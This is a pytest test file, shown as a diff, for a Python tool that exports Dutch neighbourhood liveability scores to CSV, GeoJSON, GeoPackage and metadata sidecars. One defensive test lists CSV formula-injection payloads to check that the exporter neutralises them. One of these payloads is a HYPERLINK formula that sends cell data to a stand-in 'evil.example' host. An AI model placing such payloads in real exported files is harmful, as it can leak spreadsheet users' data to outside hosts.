@@ -1,0 +1,429 @@
+"""Export: table, CSV round trips, formula injection, metadata sidecar, GeoJSON, GeoPackage and the CLI."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import hashlib
+import io
+import json
+import subprocess
+import sys
+
+import geopandas as gpd
+import numpy as np
+import pandas as pd
+import pyogrio
+import pytest
+
+import geo
+from geo.__main__ import main, sidecar_path
+from geo.export import (
+    FORMULA_PREFIXES,
+    LONG_COLUMNS,
+    export_metadata,
+    export_table,
+    geo_frame,
+    metadata_json,
+    metadata_text,
+    to_csv_bytes,
+    to_geojson_bytes,
+    to_gpkg_bytes,
+)
+from geo.selection import Filter, Selection
+from tests.conftest import ROOT
+
+TEXT_COLUMNS = ["code", "name", "level", "gemeente_code", "gemeente_name", "city_reference_method", "excluded_reason"]
+DAY = dt.date(2025, 3, 14)
+
+
+@pytest.fixture(scope="module")
+def selection(dataset: geo.Dataset) -> Selection:
+    """Real areas of two levels: wijken of five gemeenten (one with commas in its
+    name, one with excluded wijken, one with 2024 rows), an Amsterdam wijk with its buurten and
+    an unscored wijk."""
+    return (
+        Selection()
+        .add_gemeente(dataset, "GM0014")
+        .add_gemeente(dataset, "GM0820")
+        .add_gemeente(dataset, "GM0225")
+        .add_gemeente(dataset, "GM0344")
+        .add_gemeente(dataset, "GM0080")
+        .add_wijk(dataset, "WK0363AA")
+        .add_codes(dataset, ["WK036399"])
+    )
+
+
+@pytest.fixture(scope="module")
+def long(dataset: geo.Dataset, selection: Selection) -> pd.DataFrame:
+    return export_table(dataset, selection)
+
+
+def _read(data: bytes, *, dutch: bool) -> pd.DataFrame:
+    return pd.read_csv(
+        io.BytesIO(data),
+        sep=";" if dutch else ",",
+        decimal="," if dutch else ".",
+        encoding="utf-8-sig",
+        dtype={c: "str" for c in TEXT_COLUMNS},
+        keep_default_na=False,
+        na_values=[""],
+    )
+
+
+def _expected(ds: geo.Dataset, codes: list[str], years: list[int], measure: str) -> np.ndarray:
+    """The dataset's own value per (code, year), in table order, through its public lookup."""
+    return np.array(
+        [np.nan if (v := ds.value(c, y, measure)) is None else v for c in codes for y in years], dtype="float64"
+    )
+
+
+# -- the table -----------------------------------------------------------------------------------
+def test_selection_is_real_and_large_enough(dataset, selection, long):
+    assert len(selection) >= 50
+    assert {dataset.level(c) for c in selection} == {"wijk", "buurt"}
+    assert list(long.columns) == list(LONG_COLUMNS)
+    years = dataset.years()
+    assert len(long) == len(selection) * len(years)  # one row per area and year
+    assert list(long["code"]) == [c for c in selection.codes for _ in years]
+
+
+def test_table_values_are_the_datasets(dataset, selection, long):
+    codes, years = list(selection.codes), dataset.years()
+    for m in geo.MEASURES:
+        assert np.array_equal(long[m].to_numpy(), _expected(dataset, codes, years, m), equal_nan=True), m
+    assert long["lbm"].notna().sum() > 400
+    first = long.iloc[0]
+    assert first["name"] == dataset.name(first["code"])
+    assert first["gemeente_name"] == "Groningen"
+
+
+def test_references_gap_and_exclusion(dataset, long):
+    for row in long.sample(80, random_state=1).itertuples():
+        ref = dataset.city_reference(row.code, row.year, "lbm")
+        assert (ref.value is None and np.isnan(row.city_reference)) or row.city_reference == ref.value
+        if ref.value is not None:
+            assert row.city_reference_method == ref.method
+    assert np.array_equal(long["gap_to_city"], long["lbm"] - long["city_reference"], equal_nan=True)
+    assert (long["national_reference"] == dataset.national_reference("lbm").value).all()
+    per_code = long.groupby("code", sort=False)["excluded_reason"].first()
+    for code, reason in per_code.items():
+        assert reason == (dataset.is_excluded(code) or "")
+    excluded = per_code[per_code != ""]
+    assert len(excluded) >= 1  # Druten has wijken whose scores name other areas
+    assert long.loc[long["code"].isin(excluded.index), "lbm"].isna().all()
+    assert long.loc[long["code"].isin(excluded.index), "excluded"].all()
+
+
+def test_years_subset_and_default(dataset, selection):
+    t = export_table(dataset, selection, years=[2022, 2012])
+    assert sorted(set(t["year"])) == [2012, 2022]
+    groningen = Selection().add_gemeente(dataset, "GM0014")
+    assert sorted(set(export_table(dataset, groningen)["year"])) == dataset.years("lbm", code="WK001400")
+    unscored = Selection(("WK036399",))
+    assert len(export_table(dataset, unscored)) == len(dataset.years())  # no score at all: every year, empty
+
+
+def test_wide_layout(dataset, selection):
+    wide = export_table(dataset, selection, layout="wide")
+    assert list(wide["code"]) == list(selection.codes)
+    assert "fys_2012" not in wide.columns and "fys_2014" in wide.columns  # dimensions only where published
+    assert "lbm_2002" in wide.columns and "gap_to_city_2022" in wide.columns
+    expected = dataset.values(list(selection.codes), 2022, "lbm").to_numpy()
+    assert np.array_equal(wide["lbm_2022"].to_numpy(), expected, equal_nan=True)
+
+
+@pytest.mark.parametrize(
+    ("kwargs", "match"),
+    [
+        ({"layout": "tall"}, "`layout` was 'tall'"),
+        ({"years": [2021]}, r"`years` was \[2021\]"),
+        ({"years": []}, r"`years` was \[\]"),
+    ],
+    ids=["layout", "unknown-year", "no-years"],
+)
+def test_table_errors(dataset, selection, kwargs, match):
+    with pytest.raises(ValueError, match=match):
+        export_table(dataset, selection, **kwargs)
+
+
+def test_unknown_code_in_selection(dataset):
+    with pytest.raises(ValueError, match="not areas of the dataset: WK999901"):
+        export_table(dataset, Selection(("WK0363AA", "WK999901")))
+
+
+# -- empty selection -----------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "call",
+    [
+        lambda ds: export_table(ds, Selection()),
+        lambda ds: export_table(ds, Selection(), layout="wide"),
+        lambda ds: geo_frame(ds, Selection()),
+        lambda ds: export_metadata(ds, Selection()),
+    ],
+    ids=["long", "wide", "geo", "metadata"],
+)
+def test_empty_selection_is_a_clear_error(dataset, call):
+    with pytest.raises(ValueError, match="`selection` is empty: nothing to export"):
+        call(dataset)
+
+
+def test_empty_filter_result_is_a_clear_error(dataset):
+    nothing = Selection().add_filter(dataset, Filter("afw", "below", -9.0, year=2022))
+    assert len(nothing) == 0 and "0 gebieden" in nothing.describe("nl")
+    with pytest.raises(ValueError, match="loosen the filter"):
+        export_table(dataset, nothing)
+
+
+def test_empty_frames_are_never_written(long):
+    with pytest.raises(ValueError, match="`frame` has no rows"):
+        to_csv_bytes(long.iloc[0:0])
+    empty = gpd.GeoDataFrame(long.iloc[0:0], geometry=[], crs="EPSG:28992")
+    with pytest.raises(ValueError, match="`frame` has no rows"):
+        to_geojson_bytes(empty)
+    with pytest.raises(ValueError, match="`frame` has no rows"):
+        to_gpkg_bytes(empty)
+
+
+# -- CSV -----------------------------------------------------------------------------------------
+@pytest.mark.parametrize("dutch", [False, True], ids=["plain", "dutch-excel"])
+def test_csv_round_trip_is_exact(dataset, selection, long, dutch):
+    data = to_csv_bytes(long, dutch=dutch, bom=dutch)
+    assert data.startswith(b"\xef\xbb\xbf") == dutch
+    header = data.decode("utf-8-sig").split("\r\n", 1)[0]
+    assert header == (";" if dutch else ",").join(LONG_COLUMNS)
+    back = _read(data, dutch=dutch)
+    assert len(back) == len(long)
+    codes, years = list(selection.codes), dataset.years()
+    for m in (*geo.MEASURES, "city_reference", "national_reference", "gap_to_city"):
+        assert back[m].dtype == "float64", m
+        want = _expected(dataset, codes, years, m) if m in geo.MEASURES else long[m].to_numpy()
+        assert np.array_equal(back[m].to_numpy(), want, equal_nan=True), m
+    for c in ("code", "name", "gemeente_name", "excluded_reason"):
+        assert list(back[c].fillna("")) == list(long[c].fillna("")), c
+    assert list(back["year"]) == list(long["year"])
+    assert back["excluded"].tolist() == long["excluded"].tolist()
+    assert "Nuenen, Gerwen en Nederwetten" in set(back["gemeente_name"])
+
+
+def test_dutch_csv_uses_semicolon_and_decimal_comma(long):
+    text = to_csv_bytes(long, dutch=True).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    lbm = rows[0].index("lbm")
+    values = [r[lbm] for r in rows[1:] if r[lbm]]
+    assert values and all("," in v and "." not in v for v in values)
+    assert '"Nuenen, Gerwen en Nederwetten"' not in text  # no quoting needed with ;
+    plain = to_csv_bytes(long).decode("utf-8")
+    assert '"Nuenen, Gerwen en Nederwetten"' in plain
+
+
+def test_rounding(long):
+    back = _read(to_csv_bytes(long, decimals=3), dutch=False)
+    assert np.array_equal(back["lbm"].to_numpy(), long["lbm"].round(3).to_numpy(), equal_nan=True)
+    assert not np.array_equal(back["lbm"].to_numpy(), long["lbm"].to_numpy(), equal_nan=True)
+    with pytest.raises(ValueError, match="`decimals` was -1"):
+        to_csv_bytes(long, decimals=-1)
+
+
+@pytest.mark.parametrize("dutch", [False, True], ids=["plain", "dutch-excel"])
+def test_formula_injection_is_neutralised(long, dutch):
+    frame = long.head(12).copy()
+    evil = [
+        '=HYPERLINK("https://evil.example/?"&A1,"klik")',
+        "+31 20 555",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    frame.loc[frame.index[: len(evil)], "name"] = evil
+    assert (frame["afw"] < 0).any()
+    data = to_csv_bytes(frame, dutch=dutch)
+    sep = ";" if dutch else ","
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=sep))
+    header, body = rows[0], rows[1:]
+    for r in body:
+        for col in TEXT_COLUMNS:
+            assert not r[header.index(col)].startswith(FORMULA_PREFIXES), (col, r[header.index(col)])
+    back = _read(data, dutch=dutch)
+    assert list(back["name"][: len(evil)]) == ["'" + e for e in evil]  # inert, and nothing lost
+    # numbers are never mangled: a negative afw is written as a plain negative number
+    afw = header.index("afw")
+    negatives = [r[afw] for r in body if r[afw].startswith("-")]
+    assert negatives and all(not v.startswith("'") for v in negatives)
+    assert back["afw"].dtype == "float64"
+    assert np.array_equal(back["afw"].to_numpy(), frame["afw"].to_numpy(), equal_nan=True)
+
+
+# -- metadata ------------------------------------------------------------------------------------
+def _expected_sources(ds: geo.Dataset, codes: list[str], years: list[int]) -> set[str]:
+    rows = ds.scores[ds.scores["code"].isin(codes) & ds.scores["year"].isin(years)]
+    levels = set(ds.areas.loc[codes, "level"])
+    areas = {s["file"] for s in ds.manifest["sources"] if s["kind"] == "areas" and s["level"] in levels}
+    return set(rows["source"]) | areas
+
+
+def test_sidecar_names_every_source_and_licence(dataset, selection):
+    meta = export_metadata(dataset, selection, export_date=DAY)
+    files = {s["file"] for s in meta["sources"]}
+    assert files == _expected_sources(dataset, list(selection.codes), dataset.years())
+    by_file = {s["file"]: s for s in dataset.manifest["sources"]}
+    assert set(meta["licences"]) == {by_file[f]["licence"] for f in files} == {"CC BY 4.0", "CC0 1.0"}
+    for f in files:
+        assert by_file[f]["attribution"] in meta["attribution"]
+        assert next(s for s in meta["sources"] if s["file"] == f)["licence"] == by_file[f]["licence"]
+    exported_rows = sum(s.get("rows_exported", 0) for s in meta["sources"])
+    assert exported_rows == meta["counts"]["score_rows"] == int(export_table(dataset, selection)["lbm"].notna().sum())
+    assert meta["export_date"] == "2025-03-14"
+    assert meta["selection"]["criteria"]["nl"] == selection.describe("nl")
+    assert meta["selection"]["n_areas"] == len(selection)
+    assert meta["counts"]["excluded_areas"] >= 1
+
+
+def test_sidecar_lists_only_the_sources_of_the_rows_exported(dataset):
+    groningen = Selection().add_gemeente(dataset, "GM0014")
+    meta = export_metadata(dataset, groningen, years=[2022])
+    assert {s["file"] for s in meta["sources"]} == {
+        "cbs/wijken_2024.geojson",
+        "leefbaarometer/Leefbaarometer-scores wijken 2002-2022.csv",
+    }
+    utrecht_2024 = export_metadata(dataset, Selection().add_gemeente(dataset, "GM0344"), years=[2024])
+    assert {s["file"] for s in utrecht_2024["sources"]} == {
+        "cbs/wijken_2024.geojson",
+        "leefbaarometer/meting-2024-wijken-subset.csv",
+    }
+
+
+def test_sidecar_build_identity_and_date(dataset, selection):
+    meta = export_metadata(dataset, selection)
+    manifest_file = ROOT / "data" / "manifest.json"
+    assert meta["dataset"]["manifest_sha256"] == hashlib.sha256(manifest_file.read_bytes()).hexdigest()
+    assert "built" not in dataset.manifest and meta["dataset"]["build_date"] is None  # not invented
+    assert meta["export_date"] == dt.datetime.now(dt.UTC).date().isoformat()
+    assert json.loads(metadata_json(meta)) == meta
+    text = metadata_text(meta, lang="en", prefix="# ")
+    assert all(line.startswith("# ") for line in text.splitlines())
+    assert "CC BY 4.0" in text and "CC0 1.0" in text and "Build date: not recorded" in text
+    assert selection.describe("en") in text
+    assert "Naamsvermelding" in metadata_text(meta)
+
+
+# -- geo files -----------------------------------------------------------------------------------
+def test_geopackage_opens_in_rd_new_with_valid_geometries(dataset, selection, tmp_path):
+    meta = export_metadata(dataset, selection, file_format="gpkg", layout="wide", export_date=DAY)
+    frame = geo_frame(dataset, selection)
+    data = to_gpkg_bytes(frame, metadata=meta)
+    assert data == to_gpkg_bytes(frame, metadata=meta)  # reproducible
+    path = tmp_path / "selectie.gpkg"
+    path.write_bytes(data)
+    info = pyogrio.read_info(path)
+    assert info["crs"] == "EPSG:28992"
+    assert info["features"] == len(selection)
+    assert json.loads(info["layer_metadata"]["export_metadata"]) == meta
+    back = pyogrio.read_dataframe(path)
+    assert back.crs.to_epsg() == 28992
+    assert back.geometry.is_valid.all() and not back.geometry.is_empty.any()
+    assert list(back["code"]) == list(selection.codes)
+    want = dataset.values(list(selection.codes), 2022, "lbm").to_numpy()
+    assert np.array_equal(back["lbm_2022"].to_numpy(), want, equal_nan=True)
+    areas = dataset.areas.loc[list(selection.codes)].geometry.area.to_numpy()
+    assert np.allclose(back.geometry.area.to_numpy(), areas, rtol=1e-9)
+
+
+def test_geojson_is_wgs84_keyed_by_code(dataset, selection):
+    frame = geo_frame(dataset, selection, years=[2020, 2022])
+    data = to_geojson_bytes(frame, metadata={"note": "x"})
+    doc = json.loads(data)
+    assert doc["metadata"] == {"note": "x"}
+    assert [f["id"] for f in doc["features"]] == list(selection.codes)
+    for f in doc["features"]:
+        v = dataset.value(f["id"], 2022, "lbm")
+        assert f["properties"]["lbm_2022"] == v  # exact, or null when missing
+    back = gpd.read_file(io.BytesIO(data))
+    assert back.crs.to_epsg() == 4326
+    minx, miny, maxx, maxy = back.total_bounds
+    assert 3 < minx < maxx < 8 and 50 < miny < maxy < 54
+    rd = back.to_crs(28992).geometry.area.to_numpy()
+    assert np.allclose(rd, dataset.areas.loc[list(selection.codes)].geometry.area.to_numpy(), rtol=1e-3)
+
+
+# -- the command line ----------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("flags", "build"),
+    [
+        ([], lambda ds, sel, meta: to_csv_bytes(export_table(ds, sel))),
+        (
+            ["--dutch", "--bom", "--layout", "wide", "--round", "4", "--years", "2012,2022"],
+            lambda ds, sel, meta: to_csv_bytes(
+                export_table(ds, sel, years=[2012, 2022], layout="wide"), dutch=True, bom=True, decimals=4
+            ),
+        ),
+        (["--format", "geojson"], lambda ds, sel, meta: to_geojson_bytes(geo_frame(ds, sel), metadata=meta)),
+        (["--format", "gpkg"], lambda ds, sel, meta: to_gpkg_bytes(geo_frame(ds, sel), metadata=meta)),
+    ],
+    ids=["csv", "csv-dutch-wide-round", "geojson", "gpkg"],
+)
+def test_cli_gives_the_library_bytes(dataset, tmp_path, capsys, flags, build):
+    out = tmp_path / "export.out"
+    args = ["export", "--gemeente", "GM0014,GM0820", "--out", str(out), "--export-date", "2025-03-14", "--sidecar"]
+    assert main([*args, *flags]) == 0
+    sel = Selection().add_gemeente(dataset, "GM0014").add_gemeente(dataset, "GM0820")
+    fmt = flags[flags.index("--format") + 1] if "--format" in flags else "csv"
+    layout = "wide" if fmt != "csv" or "wide" in flags else "long"
+    years = [2012, 2022] if "--years" in flags else None
+    meta = export_metadata(dataset, sel, years=years, layout=layout, file_format=fmt, export_date=DAY)
+    assert out.read_bytes() == build(dataset, sel, meta)
+    assert sidecar_path(out).read_bytes() == metadata_json(meta)
+    assert "wrote" in capsys.readouterr().out
+
+
+def test_cli_filter_and_codes(dataset, tmp_path):
+    out = tmp_path / "f.csv"
+    assert main(["export", "--filter", "measure=afw,op=below,threshold=-0.1,year=2022", "--out", str(out)]) == 0
+    sel = Selection().add_filter(dataset, Filter("afw", "below", -0.1, year=2022))
+    assert out.read_bytes() == to_csv_bytes(export_table(dataset, sel))
+    assert main(["export", "--codes", "WK0363AA,BU0363AA01", "--out", str(out)]) == 0
+    assert out.read_bytes() == to_csv_bytes(export_table(dataset, Selection(("WK0363AA", "BU0363AA01"))))
+
+
+@pytest.mark.parametrize(
+    ("argv", "match"),
+    [
+        (["--codes", "WK999901"], "not areas of the dataset: WK999901"),
+        (["--filter", "measure=afw,op=below,threshold=-9,year=2022"], "`selection` is empty"),
+        (["--filter", "colour=red"], "filter key 'colour' is unknown"),
+        (["--selection", "1abcd"], "not a valid selection link"),
+        (["--gemeente", "GM0014", "--format", "gpkg", "--dutch"], "--dutch: only for --format csv"),
+        (["--gemeente", "GM0014", "--years", "2012,x"], "--years was '2012,x'"),
+        (["--gemeente", "GM0014", "--export-date", "14-03-2025"], "expected YYYY-MM-DD"),
+    ],
+    ids=["unknown-code", "empty", "bad-filter", "bad-token", "csv-flag-on-gpkg", "years", "date"],
+)
+def test_cli_errors_exit_2(tmp_path, capsys, argv, match):
+    out = tmp_path / "x.csv"
+    assert main(["export", *argv, "--out", str(out)]) == 2
+    assert match in capsys.readouterr().err
+    assert not out.exists()
+
+
+def test_python_dash_m_geo_export(tmp_path):
+    out = tmp_path / "a.csv"
+    ok = subprocess.run(
+        [sys.executable, "-m", "geo", "export", "--codes", "WK0363AA", "--dutch", "--out", str(out)],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert ok.returncode == 0, ok.stderr
+    ds = geo.load_dataset()
+    assert out.read_bytes() == to_csv_bytes(export_table(ds, Selection(("WK0363AA",))), dutch=True)
+    bad = subprocess.run(
+        [sys.executable, "-m", "geo", "export", "--codes", "WK0363ZZ", "--out", str(out)],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert bad.returncode == 2
+    assert "error: `codes` holds 1 code(s) that are not areas of the dataset: WK0363ZZ" in bad.stderr
